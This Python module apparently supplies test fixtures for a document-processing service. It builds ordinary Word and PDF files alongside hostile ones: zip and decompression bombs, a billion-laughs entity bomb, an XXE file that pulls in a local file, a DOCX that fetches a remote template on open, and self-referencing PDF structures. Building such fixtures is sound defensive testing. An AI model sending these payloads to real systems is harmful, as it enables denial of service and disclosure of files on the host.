"""Makes documents by script: honest ones, and those that are meant to hurt whoever opens them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

from docx import Document

MIB = 1024 * 1024
WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(*paragraphs: str, table: Sequence[str] = ()) -> bytes:
    """An honest Word file; ``table`` are the cells of one row."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if table:
        row = document.add_table(rows=1, cols=len(table)).rows[0]
        for cell, text in zip(row.cells, table, strict=True):
            cell.text = text
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], **options: int) -> bytes:
    """A zip of ``parts``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **options) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def word_with(name: str, body: bytes) -> bytes:
    """An honest Word file in which one part is another."""
    return packed({**parts_of(word("x")), name: body}, compression=zipfile.ZIP_DEFLATED)


def zip_bomb(mib: int = 300) -> bytes:
    """A Word file of some hundred KB that unpacks to ``mib`` MiB of spaces in its text."""
    text = f"<w:document {WORD_NS}><w:body><w:p><w:r><w:t>".encode()
    end = b"</w:t></w:r></w:p></w:body></w:document>"
    return word_with("word/document.xml", text + b" " * (mib * MIB) + end)


def lying_bomb(mib: int = 200) -> bytes:
    """The same, whose directory says that it is small."""
    data = bytearray(zip_bomb(mib))
    large = struct.pack("<I", len(parts_of(bytes(data))["word/document.xml"]))
    place = data.find(large)
    while place >= 0:
        data[place : place + 4] = struct.pack("<I", 4000)
        place = data.find(large)
    return bytes(data)


def entity_bomb() -> bytes:
    """A Word file whose text grows to billions of characters (billion laughs)."""
    names = "".join(
        f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "lol"}'
        + (f"&l{n - 1};" * 9 if n else "")
        + '">'
        for n in range(10)
    )
    text = (
        f'<?xml version="1.0"?><!DOCTYPE d [{names}]><w:document {WORD_NS}><w:body><w:p><w:r>'
        "<w:t>&l9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return word_with("word/document.xml", text.encode())


def outside_entity(target: str) -> bytes:
    """A Word file that wants the words of a file of this machine in its text (XXE)."""
    text = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{target}">]>'
        f"<w:document {WORD_NS}><w:body><w:p><w:r><w:t>before &x; after</w:t></w:r></w:p></w:body>"
        "</w:document>"
    )
    return word_with("word/document.xml", text.encode())


def fetching_template() -> bytes:
    """A Word file that fetches its template from the net when it is opened."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    links = (
        '<?xml version="1.0"?><Relationships'
        ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="http://example.org/x.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    return word_with("word/_rels/settings.xml.rels", links.encode())


def pdf(objects: Sequence[bytes], *, root: int = 1) -> bytes:
    """A PDF of numbered objects, from 1 on."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        out
        + (
            f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
            f"trailer\n<</Size {len(objects) + 1}/Root {root} 0 R>>\nstartxref\n{len(out)}\n%%EOF\n"
        ).encode()
    )


def stream(body: bytes, head: bytes = b"") -> bytes:
    """One stream object."""
    return b"<<" + head + f"/Length {len(body)}".encode() + b">>\nstream\n" + body + b"\nendstream"


def pdf_of(*pages: str) -> bytes:
    """An honest PDF, a line of Latin words a page."""
    kids = " ".join(f"{4 + 2 * n} 0 R" for n in range(len(pages)))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Kids[{kids}]/Count {len(pages)}>>".encode(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for number, text in enumerate(pages):
        objects.append(
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<</Font<</F1 3 0 R>>>>"
            f"/Contents {5 + 2 * number} 0 R>>".encode()
        )
        objects.append(stream(f"BT /F1 12 Tf 20 200 Td ({text}) Tj ET".encode()))
    return pdf(objects)


def pdf_loop() -> bytes:
    """A PDF whose tree of pages holds itself."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def pdf_calling_itself() -> bytes:
    """A PDF whose page draws a form that draws itself."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            (
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
                b"/Contents 4 0 R>>"
            ),
            stream(b"/X Do"),
            stream(
                b"/X Do /X Do",
                b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>",
            ),
        ]
    )


def pdf_of_many(pages: int = 20_000) -> bytes:
    """A small PDF that shows one page twenty thousand times."""
    kids = b"3 0 R " * pages
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[" + kids + f"]/Count {pages}>>".encode(),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        ]
    )


def pdf_bomb(mib: int = 1500) -> bytes:
    """A PDF of some MB whose page unpacks to ``mib`` MiB of drawing."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b"0 0 m 1 1 l S\n" * 74_899) for _ in range(mib))
    body += packer.flush()
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
            stream(body, b"/Filter/FlateDecode"),
        ]
    )


def png_header(width: int, height: int) -> bytes:
    """A PNG that announces a size and holds nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def heic() -> bytes:
    """The head of an Apple phone's photo."""
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + b"\0" * 500


def mp4() -> bytes:
    """The head of a film, as it hangs behind a motion photo."""
    return struct.pack(">I", 24) + b"ftypmp42\0\0\0\0mp42isom" + b"\0" * 5000
